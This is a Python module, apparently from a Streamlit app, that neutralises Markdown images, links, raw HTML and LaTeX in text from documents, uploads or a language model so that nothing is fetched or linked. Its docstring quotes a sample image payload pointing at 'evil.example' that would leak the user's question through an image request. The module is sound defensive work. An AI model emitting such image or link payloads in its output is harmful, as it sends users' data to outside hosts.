"""Text from documents, uploads or a language model made inert before it reaches the page.

A PDF can carry `![](https://evil.example/p.png?data)` or `<img src=…>`; Streamlit's Markdown
would have the browser fetch the image (leaking what was asked) and show links that lead
anywhere. Everything the app shows that it did not write itself goes through ``safe_md``
(Markdown contexts: answers, warnings, labels of buttons and expanders, captions) or
``safe_html`` (the few places the app builds HTML itself, e.g. highlighted passages):

- ``![alt](url)`` becomes the text "bild: alt" with the address as code – never an image;
- ``[text](url)``, ``<url>``, bare addresses and e-mail addresses are shown as text (code),
  never as links; reference-style links cannot form because brackets are escaped;
- raw HTML is escaped and shown as written; ``$`` never starts LaTeX.

Markdown the engine writes on purpose (bold, lists, line breaks) keeps working.
"""
from __future__ import annotations

import html
import re

_CODE = re.compile(r"(`+)(?:(?!\1).)+?\1", re.DOTALL)  # inline code spans are shown as written
_FENCE = re.compile(r"^(```|~~~).*?^\1[ \t]*$", re.DOTALL | re.MULTILINE)
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
_ANGLE_LINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.\-]{1,31}:[^<>\s]*)|(?:[^<>\s@]+@[^<>\s@]+))>")
_URL = re.compile(
    r"(?:\b[a-zA-Z][a-zA-Z0-9+.\-]{1,31}://|\bwww\.)[^\s<>`\"']*[^\s<>`\"'.,;:!?)\]]"
    r"|\b[\w.+\-]+@[\w\-]+(?:\.[\w\-]+)+\b"
    r"|\b(?:mailto|javascript|data|file|tel):[^\s<>`\"']+",
    re.IGNORECASE,
)
_PLACEHOLDER = "\x00{}\x00"


def _code(text: str) -> str:
    """``text`` as an inline code span (shown literally, never linked)."""
    text = text.replace("\n", " ")
    fence = "`" * (max((len(m) for m in re.findall(r"`+", text)), default=0) + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def safe_md(text: object) -> str:
    """Markdown that renders no image, no link and no HTML: see the module docstring."""
    if text is None:
        return ""
    text = str(text)
    kept: list[str] = []

    def keep(s: str) -> str:
        kept.append(s)
        return _PLACEHOLDER.format(len(kept) - 1)

    # Existing code blocks and spans are shown literally by Markdown already: leave them.
    text = text.replace("\x00", "")
    text = _FENCE.sub(lambda m: keep(m.group(0)), text)
    text = _CODE.sub(lambda m: keep(m.group(0)), text)

    def image(m: re.Match) -> str:
        alt = m.group(1).strip()
        url = m.group(2).strip()
        label = f"bild: {_escape_plain(alt)}" if alt else "bild"
        return f"({label}{' – ' + keep(_code(url)) if url else ''})"

    def link(m: re.Match) -> str:
        label, url = m.group(1).strip(), m.group(2).strip()
        if not url:
            return _escape_plain(label)
        return f"{_escape_plain(label)} ({keep(_code(url))})" if label else keep(_code(url))

    text = _IMAGE.sub(image, text)
    text = _LINK.sub(link, text)
    text = _ANGLE_LINK.sub(lambda m: keep(_code(m.group(1))), text)
    text = _URL.sub(lambda m: keep(_code(m.group(0))), text)
    text = _escape_plain(text)
    return re.sub("\x00(\\d+)\x00", lambda m: kept[int(m.group(1))], text)


def _escape_plain(text: str) -> str:
    """Escape what could start HTML, an image, a link or LaTeX in ordinary Markdown text."""
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return re.sub(r"(?<!\\)([\[\]$])", r"\\\1", text)


def safe_html(text: object) -> str:
    """Plain text for inside the app's own HTML: escaped, and with nothing Markdown or a
    browser could turn into a link, an image or LaTeX."""
    if text is None:
        return ""
    out = html.escape(str(text), quote=True)
    for ch, ref in (("[", "&#91;"), ("]", "&#93;"), ("$", "&#36;"), ("`", "&#96;"), ("*", "&#42;"), ("_", "&#95;")):
        out = out.replace(ch, ref)
    # Addresses stay readable but cannot be recognised as links (autolinks need "://", "www." or "@").
    out = re.sub(r"://", ":&#47;&#47;", out)
    out = re.sub(r"(?i)\bwww\.", "www&#46;", out)
    return out.replace("@", "&#64;")
